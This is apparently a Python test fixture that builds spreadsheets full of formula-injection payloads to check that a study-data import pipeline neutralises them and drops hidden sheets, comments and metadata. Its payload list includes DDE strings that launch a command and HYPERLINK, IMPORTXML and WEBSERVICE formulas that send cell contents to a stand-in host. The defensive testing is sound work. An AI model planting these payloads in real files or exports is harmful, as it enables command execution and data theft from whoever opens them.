"""An upload whose every free text is a formula to some program, or hides what must not travel."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable
from functools import cache

import openpyxl
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from evaluation.config import parse_settings
from evaluation.ingest.pipeline import read_files
from evaluation.model import ImportReport
from evaluation.programme import Results, analyse

# What spreadsheet programs, and who writes to them, are known to take for more than text.
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "'=1+1", "''=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://e.example?x="&A1,"here")',
    '=IMPORTXML(CONCAT("http://e.example?",A1),"//a")', '=WEBSERVICE("http://e.example")',
    '=DDE("cmd";"/C calc";"A0")', '"=1+1"', '"\n=1+1', 'a"\n=1+1', "a\r=1+1", "a\r\n=1+1",
    "a\t=1+1", "a;=1+1;b", "a,=1+1,b", "a|=1+1", "{=1+1}", "=A1:XFD9", "-5", "+5", "-3.5e2", "=",
    "@", "-", "%0A=1+1", "http://e.example", "internal:'scores'!A1", "_x003D_1+1",
    "<script>alert(1)</script>", "]]>", "'tis =1",
)  # fmt: skip
# What a spreadsheet program may act on, written down here once more and in another way.
ACTIVE = "=+-@\t\r\n\0＝＋－＠"
UNSEEN = " \u00a0\u00ad\u200b\u200c\u200d\u2060\ufeff"

FORMULA_HEADER = '=HYPERLINK("http://e.example","here")'
FORMULA_FILE = "=1+1.xlsx"
COLUMNS = (
    "site", "participant", "couple", "role", "wave", "completed_on", "referral_route",
    "phq9_total", FORMULA_HEADER, "@remark",
)  # fmt: skip
DAYS = {"baseline": "2017-01-10", "end": "2017-04-10"}


# A site costs time in every chart; people are many.
SITES = ("=1+1", "+cmd|' /C calc'!A0", "@SUM(1,1)", "-5", "<script>alert(1)</script>")


def rows() -> list[list[str]]:
    """Two people for each payload, before and after; now and then no answer that counts."""
    made = []
    for number, text in enumerate(PAYLOADS):
        site = SITES[number % len(SITES)]
        for person in range(2):
            code = f"{text} {number}{'ab'[person]}"
            for wave, day in DAYS.items():
                answer = str((7 * number + 3 * person) % 20 + (7 if wave == "baseline" else 0))
                if number % 10 == 9 and wave == "end":
                    answer = text  # refused, and told
                made.append(
                    [site, code, f"{text} {number}", ("mother", "father")[person], wave, day,
                     text, answer, text, text]
                )  # fmt: skip
    return made


def hostile_workbook() -> bytes:
    """The rows as a workbook of texts, with a sheet of counted outcomes of such names."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    counted = [
        [SITES[n % len(SITES)], f"{PAYLOADS[n]} {n}a", wave, f"{SITES[n]} counted", str(n + 3)]
        for n in range(len(SITES))
        for wave in DAYS
    ]
    for name, header, body in (
        ("=1+1", COLUMNS, rows()),
        ("indicators", ("site", "participant", "wave", "indicator", "value"), counted),
    ):
        sheet = book.add_worksheet(name)
        for place, line in enumerate([header, *body]):
            for column, cell in enumerate(line):
                sheet.write_string(place, column, cell)
    book.close()
    return buffer.getvalue()


@cache
def hostile_report() -> ImportReport:
    """What is read of it."""
    return read_files([(FORMULA_FILE, hostile_workbook())])


@cache
def hostile_results() -> Results:
    """What comes of it, with few people enough for everything."""
    return analyse(hostile_report().dataset, parse_settings(""), data_lock=dt.date(2018, 6, 30))


# --- what must not travel -------------------------------------------------------------------------

# Where each marker stands in the file below; none of them is read, and nobody may meet them again.
MARKERS = {
    "a column that is not known": "Zebediah1",
    "the name of that column": "Zebediah2",
    "a column of names": "Zebediah3",
    "a column of e-mail addresses": "zebediah4",
    "a hidden sheet": "Zebediah5",
    "the name of a hidden sheet": "Zebediah6",
    "a comment": "Zebediah7",
    "who wrote the comment": "Zebediah8",
    "who wrote the file": "Zebediah9",
    "a defined name": "Zebediah10x",
    "the title of the file": "Zebediah11",
    "beside the table": "Zebediah12",
    "the page's header": "Zebediah13",
    "an e-mail address among codes": "zebediah14",
}
# The sentences about a file name its columns and hidden sheets to who uploaded it.
TOLD_TO_THE_UPLOADER = {"the name of that column", "the name of a hidden sheet"}
PEOPLE = 24


def marked_workbook(change: Callable[[openpyxl.Workbook], None] | None = None) -> bytes:
    """Honest answers, with a marker in every place that the import leaves behind."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "questionnaires"
    m = MARKERS
    sheet.append(
        ["site", "participant", "couple", "role", "wave", "completed_on", "phq9_total",
         m["the name of that column"], "Name", "E-mail"]
    )  # fmt: skip
    for number in range(PEOPLE):
        for wave, day in DAYS.items():
            total = 8 + number % 12 if wave == "baseline" else 2 + number % 9
            code = f"LUT-{number:03}"
            if number == PEOPLE - 1:
                code = f"{m['an e-mail address among codes']}@e.example"
            sheet.append(
                ["Luton", code, f"C{number // 2}", ("mother", "father")[number % 2], wave,
                 day, total, f"{m['a column that is not known']} {number}",
                 f"Jo {m['a column of names']}",
                 f"{m['a column of e-mail addresses']}@e.example"]
            )  # fmt: skip
    sheet["A2"].comment = Comment(m["a comment"], m["who wrote the comment"])
    sheet["Q60"] = m["beside the table"]
    sheet.oddHeader.center.text = m["the page's header"]
    hidden = book.create_sheet(m["the name of a hidden sheet"])
    hidden["A1"] = m["a hidden sheet"]
    hidden.sheet_state = "veryHidden"
    book.defined_names[m["a defined name"]] = DefinedName(m["a defined name"], attr_text='"x"')
    book.properties.creator = book.properties.lastModifiedBy = m["who wrote the file"]
    book.properties.title = m["the title of the file"]
    if change is not None:
        change(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
